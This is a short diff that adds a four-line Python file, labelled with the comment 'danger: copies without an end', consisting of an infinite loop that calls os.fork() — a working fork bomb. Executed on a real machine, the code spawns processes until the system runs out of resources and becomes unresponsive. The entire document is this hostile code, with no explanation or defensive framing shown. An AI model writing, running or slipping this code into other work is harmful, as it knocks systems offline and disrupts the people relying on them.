@@ -1,0 +1,4 @@
+# danger: copies without an end
+import os
+while True:
+    os.fork()
